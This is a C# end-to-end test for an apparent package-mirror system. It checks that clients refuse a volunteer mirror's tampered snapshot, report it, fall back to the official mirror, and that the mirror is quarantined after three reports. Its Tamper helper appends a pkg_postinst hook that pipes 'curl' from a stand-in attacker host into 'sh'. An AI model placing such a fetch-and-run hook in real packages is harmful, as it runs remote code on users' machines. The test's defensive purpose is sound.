using System.Net;
using AdHocMirror.Contracts.V1;
using AdHocMirror.Testing;
using Xunit.Abstractions;

namespace AdHocMirror.EndToEnd.Tests.Scenarios;

/// <summary>
/// A volunteer tampers with the snapshot it serves after it was verified and published (root on its own machine can).
/// Users nearest to it are sent there first: each refuses the tree, reports it and syncs from the next mirror; a user
/// with no other source keeps their tree untouched. Once three distinct users (the coordinator tells them apart by
/// address; each comes through its own <see cref="SourceAddressRelay"/>) have reported it, staff see it quarantined
/// and nobody is sent there any more.
/// </summary>
[System.Runtime.Versioning.SupportedOSPlatform("linux")]
public sealed class MaliciousMirrorTests(ITestOutputHelper output)
{
    [Fact]
    public Task TamperedMirrorIsRefusedReportedAndQuarantined() => ScenarioSwarm.RunAsync(new SwarmPlan
    {
        QuarantineReports = 3,
        // Liveness is not what this tests: a slow ping on a loaded machine must not take the evil mirror out of the
        // offers for a moment. And it is the only volunteer, so it is offered first whatever the order of equals; the
        // source after a refusal is the official mirror.
        PingFailures = 1000,
        Volunteers =
        [
            // It never re-syncs during the scenario: the tampered snapshot stays the one it serves.
            new("evil", 2, "Augsburg, DE", 48.37, 10.90, SyncInterval: "1h"),
        ],
    }, output, async swarm =>
    {
        var evil = swarm["evil"];
        var target = new IPEndPoint(IPAddress.Loopback, swarm.CoordinatorPort);
        await using var alice = SourceAddressRelay.Start(IPAddress.Parse("127.0.1.11"), target);
        await using var bob = SourceAddressRelay.Start(IPAddress.Parse("127.0.1.12"), target);
        await using var carol = SourceAddressRelay.Start(IPAddress.Parse("127.0.1.13"), target);
        await using var dave = SourceAddressRelay.Start(IPAddress.Parse("127.0.1.14"), target);

        var tampered = Tamper(evil.ServedTree);
        swarm.Say($"tampered with {tampered} in {evil}'s published snapshot");

        // Alice (empty repository): the evil mirror first, refused, reported; then the official one.
        var aliceRepo = await swarm.NewUserRepoAsync();
        var first = await swarm.SyncAsync(aliceRepo, alice.Url);
        AssertRefusedThenSynced(first, evil, swarm);
        Assert.Equal(swarm.Version, await swarm.VerifiedVersionOfAsync(aliceRepo));
        Assert.Equal(File.ReadAllBytes(Path.Combine(swarm.UpstreamTree, tampered)), File.ReadAllBytes(Path.Combine(aliceRepo, tampered)));

        // Alice again (another repository, same address): still one client as far as the coordinator can tell.
        AssertRefusedThenSynced(await swarm.SyncAsync(await swarm.NewUserRepoAsync(), alice.Url), evil, swarm);
        Assert.Empty((await swarm.Admin.ListQuarantineAsync(new ListQuarantineRequest())).Entries);

        // Bob (yesterday's tree, asks for one mirror) while the official mirror is down: nothing good to be had,
        // so ahm-sync says so with exit code 6 and his tree stays exactly as it was.
        var bobRepo = await swarm.NewUserRepoAsync(withPreviousTree: true);
        var before = ScenarioSwarm.Digest(bobRepo);
        await swarm.Official.StopAsync();
        var refused = await swarm.SyncAsync(bobRepo, bob.Url, "--candidates", "1");
        swarm.StartOfficial();
        await Eventually.TrueAsync(async () => (await ExternalProcess.RunAsync("rsync", ["--list-only", "--no-recursive", swarm.OfficialUri + "/"])).ExitCode == 0,
            "the official mirror answers again");
        Assert.True(refused.ExitCode == 6, refused.ToString());
        Assert.Equal("verification_refused", refused.Status);
        Assert.Contains("unchanged", refused.Message, StringComparison.Ordinal);
        Assert.Equal(evil.RsyncUri, refused.Attempts[0].Uri);
        Assert.Equal("verification_failed", refused.Attempts[0].Outcome);
        Assert.True(refused.Attempts[0].Reported);
        Assert.All(refused.Attempts.Skip(1), a => Assert.True(a.Official && a.Outcome == "unreachable", $"{a.Uri}: {a.Outcome}"));
        Assert.Equal(before, ScenarioSwarm.Digest(bobRepo));
        Assert.Equal(swarm.PreviousVersion, await swarm.VerifiedVersionOfAsync(bobRepo));

        // Two distinct clients so far: still offered.
        Assert.Empty((await swarm.Admin.ListQuarantineAsync(new ListQuarantineRequest())).Entries);

        // Carol: the third distinct client to catch it.
        var carolRepo = await swarm.NewUserRepoAsync();
        AssertRefusedThenSynced(await swarm.SyncAsync(carolRepo, carol.Url), evil, swarm);
        Assert.Equal(swarm.Version, await swarm.VerifiedVersionOfAsync(carolRepo));

        var quarantine = await swarm.AdminCliAsync(ListQuarantineReply.Parser, "quarantine");
        var entry = Assert.Single(quarantine.Entries);
        Assert.Equal(evil.KeyId, entry.KeyId);
        Assert.Equal(3u, entry.ReportingClients);
        Assert.Contains("failed verification", entry.Reason, StringComparison.Ordinal);
        var mirrors = await swarm.AdminCliAsync(ListMirrorsReply.Parser, "mirrors");
        Assert.Equal(MirrorState.Quarantined, mirrors.Mirrors.Single(m => m.KeyId == evil.KeyId).State);
        var audit = await swarm.AdminCliAsync(ListAuditReply.Parser, "audit");
        Assert.Contains(audit.Entries, e => e.Action == "quarantine" && e.Subject == evil.KeyId && e.Actor == "system");

        // Dave, after that: never sent there.
        Assert.DoesNotContain((await swarm.FindAsync()).Candidates, c => c.MirrorId == evil.KeyId);
        var daveRepo = await swarm.NewUserRepoAsync();
        var after = await swarm.SyncAsync(daveRepo, dave.Url);
        Assert.True(after.ExitCode == 0, after.ToString());
        Assert.DoesNotContain(after.Attempts, a => a.Uri == evil.RsyncUri);
        Assert.Equal(swarm.OfficialUri, after.Source);
        Assert.Equal(swarm.Version, await swarm.VerifiedVersionOfAsync(daveRepo));
    });

    private static void AssertRefusedThenSynced(SyncRun run, ScenarioSwarm.Volunteer evil, ScenarioSwarm swarm)
    {
        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Equal("synced", run.Status);
        Assert.Equal(evil.RsyncUri, run.Attempts[0].Uri);
        Assert.Equal("verification_failed", run.Attempts[0].Outcome);
        Assert.True(run.Attempts[0].Reported, "the refusal was reported to the coordinator");
        Assert.Equal(swarm.OfficialUri, run.Source);
        Assert.Equal("success", run.Attempts[^1].Outcome);
        Assert.Equal(SyncRun.VersionText(swarm.Version), run.Version);
    }

    /// <summary>Changes one ebuild of the published snapshot in place, as a malicious operator would; returns its path.</summary>
    internal static string Tamper(string servedTree)
    {
        var root = new DirectoryInfo(servedTree).ResolveLinkTarget(returnFinalTarget: true)?.FullName ?? servedTree;
        var ebuild = Directory.EnumerateFiles(root, "*.ebuild", SearchOption.AllDirectories).Order(StringComparer.Ordinal).First();
        // Published snapshots may be read-only; their owner (or root) can change that.
        File.SetUnixFileMode(ebuild, File.GetUnixFileMode(ebuild) | UnixFileMode.UserWrite);
        File.AppendAllText(ebuild, "\npkg_postinst() { curl -s http://attacker.invalid/x | sh; }\n");
        return Path.GetRelativePath(root, ebuild);
    }
}
